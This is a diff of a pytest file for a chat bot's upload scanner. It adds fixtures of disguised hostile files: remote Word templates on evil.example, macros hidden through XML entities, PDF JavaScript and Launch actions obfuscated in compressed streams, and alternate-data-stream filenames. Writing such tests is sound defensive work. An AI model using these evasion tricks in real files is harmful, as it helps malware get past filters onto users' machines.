@@ -1,15 +1,44 @@
 """Programs that are passed as files: decided on the name as whoever opens it reads it, and on the content."""
 
+from zlib import compress
+
 import pytest
 
-from bot.documents.content import TAKEN, why_refused
+from bot.documents.content import why_refused
+from bot.documents.kinds import OLE, TAKEN
 from bot.documents.writing import SheetPage, write_xlsx
-from tests.hostile.made import WORD, docx, old_document, roster_parts, zipped
+from tests.hostile.made import RELATIONS, WORD, docx, old_document, roster_parts, zipped
 
+PDF = b"%PDF-1.7\n"
 EXE, SCRIPT = b"MZ\x90\x00" + bytes(60), b"WScript.Shell"
 VBA = old_document("WordDocument", "_VBA_PROJECT")
 TYPES = "[Content_Types].xml"
 SHEET = write_xlsx([SheetPage("A", [("x",)])])
+
+
+def typed(kind: str) -> bytes:
+    return (
+        f'<Types><Override ContentType="application/vnd.ms-excel.{kind}+xml" PartName="/x"/></Types>'.encode()
+    )
+
+
+def related(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
+    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    said = f'<Relationship Id="rId1" Type="{schema}/{kind}" Target="{target}" {mode}/>'
+    return f"<Relationships>{said}</Relationships>".encode()
+
+
+def with_template(target: str, kind: str = "attachedTemplate") -> bytes:
+    return zipped({WORD: b"<w:p/>", "word/_rels/settings.xml.rels": related(kind, target)})
+
+
+def packed(objects: bytes, cut: int = 0) -> bytes:
+    """Make a PDF whose objects are packed; the last bytes may be cut off."""
+    content = compress(objects)
+    begins = f"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(content)}>>".encode()
+    return PDF + begins + b"\nstream\r\n" + content[: len(content) - cut] + b"\nendstream endobj"
+
+
 NAMES = (  # none of them a document, whatever it looks like
     *(
         "x.js",
@@ -63,7 +92,10 @@ NAMES = (  # none of them a document, whatever it looks like
         "x",
     ),
     *("", ".", "x.", ".docx"),
+    *("x.exe:a.txt", "x.bat :a.docx", "x.js:y:a.pdf", "x.exe::$DATA", "a.txt:x.exe"),
 )
+JUNK = b"\x00\x05\x16\x07"
+SCRIPTED = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
 PROGRAMS = {
     "a program as a picture": ("anh.jpg", EXE),
     "a program as a document": ("a.docx", b"\x7fELF\x02"),
@@ -98,13 +130,47 @@ PROGRAMS = {
         zipped({"content.xml": b"<a/>", "Basic/Standard/Module1.xml": b"<a/>"}),
     ),
     "Java": ("a.xlsx", zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"x"})),
+    "macros by a type in entities": ("a.xlsx", zipped({**roster_parts(), TYPES: typed("macro&#115;heet")})),
+    "macros by a type of its own making": (
+        "a.xlsx",
+        zipped({**roster_parts(), TYPES: b'<!DOCTYPE a [<!ENTITY m "macro">]>' + typed("&m;sheet")}),
+    ),
+    "macros by a relation": (
+        "a.xlsx",
+        zipped({**roster_parts(), RELATIONS: related("xlMacrosheet", "worksheets/sheet1.xml", "")}),
+    ),
+    "macros in other letters": ("a.docx", zipped({WORD: b"<w:p/>", "word/VBAProject.BIN": b"x"})),
+    "macros two documents deeper": (
+        "a.docx",
+        zipped({WORD: b"<w:p/>", "word/a.docx": zipped({"b.xlsx": zipped({TYPES: typed("macrosheet")})})}),
+    ),
+    "a script among the pictures": ("a.docx", zipped({WORD: b"<w:p/>", "word/media/a.bat": SCRIPT})),
+    "a program by its name": ("a.docx", zipped({WORD: b"<w:p/>", "evil.exe": b"x"})),
+    "a template elsewhere": ("a.docx", with_template("http://evil.example/a.dotm")),
+    "a template on a share": ("a.docx", with_template("file:///\\\\evil.example\\a.dotm")),
+    "a template in entities": ("a.docx", with_template("h&#116;tp://evil.example/a.dotm")),
+    "a template on a share in numbers": ("a.docx", with_template("file:///%5C%5Cevil.example%5Ca.dotm")),
+    "an object elsewhere": ("a.docx", with_template("https://evil.example/a.html!", "oleObject")),
+    "a script of a PDF": ("a.pdf", SCRIPTED),
+    "a script of a PDF in numbers": ("a.pdf", SCRIPTED.replace(b"JavaScript", b"J#61vaScr#69pt")),
+    "a script of a PDF, packed": ("a.pdf", packed(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
+    "a script of a PDF, packed without its checksum": (
+        "a.pdf",
+        packed(b"1 0 <</S/JavaScript/JS(app.alert(1))>>", cut=4),
+    ),
+    "a program that a PDF starts": ("a.pdf", SCRIPTED.replace(b"/JavaScript/JS", b"/Launch/F")),
+    "a PDF with more objects than anybody writes": ("a.pdf", PDF + b"<</Type/ObjStm>>stream\n" * 100_000),
     "a program in a zip": ("a.zip", zipped({"a.docx": docx(b"<w:p/>"), "b/anh.jpg": EXE})),
     "macros in a zip": ("a.zip", zipped({"a.doc": VBA})),
 }
 NO_DOCUMENTS = {
     "a page as a document": ("a.pdf", b"<html><script>alert(1)</script>"),
     "a page as a picture": ("a.png", b"<svg onload='alert(1)'/>"),
-    "a zip as a document": ("a.docx", zipped({"x.js": SCRIPT})),
+    "a zip as a document": ("a.docx", zipped({"x.txt": b"x"})),
+    "a program as what macOS leaves": ("a.zip", zipped({".x.exe": JUNK + EXE})),
+    "a script as what macOS leaves": ("a.zip", zipped({"__MACOSX/._x.bat": JUNK + b"\r\ndel *"})),
+    "a document as what macOS leaves": ("a.zip", zipped({"__MACOSX/x.docx": JUNK})),
+    "a part of a program in a zip": ("a.zip", zipped({"x.exe:a.txt": b"x"})),
     "a script in a zip": ("a.zip", zipped({"a.docx": docx(b"<w:p/>"), "x.js ": SCRIPT})),
     "a zip in a zip": ("a.zip", zipped({"b.zip": zipped({"a.docx": docx(b"<w:p/>")})})),
     "an installer": ("a.doc", old_document("Property")),
@@ -113,6 +179,8 @@ NO_DOCUMENTS = {
 }
 UNOPENED = {
     "a password on an Office file": ("a.xlsx", old_document("EncryptedPackage")),
+    "a folder with content": ("a.zip", zipped({"x.exe/": EXE})),
+    "a folder with content in a document": ("a.docx", zipped({WORD: b"<w:p/>", "x.exe/": EXE})),
     "no zip": ("a.zip", b"PK\x03\x04" + bytes(100)),
     "a zip of very much": ("a.zip", zipped({f"{n}.txt": b"a" * 15_000_000 for n in range(7)})),
     "a zip of one that is too large": ("a.zip", zipped({"a.txt": b"a" * 21_000_000})),
@@ -137,6 +205,10 @@ DOCUMENTS = {
     "a.zip": zipped(
         {"1/a.docx": docx(b"<w:p/>"), "1/b.jpg": b"\xff\xd8\xff", "__MACOSX/._b.jpg": b"\x00\x05\x16\x07"}
     ),
+    "một: hai.docx": with_template("file:///C:\\Users\\Mẫu\\Normal.dotm"),
+    "b.docx": with_template("http://nhontrach.example/", "hyperlink"),
+    "b.pdf": PDF + b"<<>>stream\nBT (HTML/CSS) Tj ET\nendstream" + packed(b"1 0 <</Type/Page>>"),
+    "b.zip": zipped({".DS_Store": b"\x00\x00\x00\x01Bud1", "a/Thumbs.db": OLE, "a/": b"", "a/b.txt": b"x"}),
     "anh": b"\xff\xd8\xff\xe0",  # as channels name some
 }
 
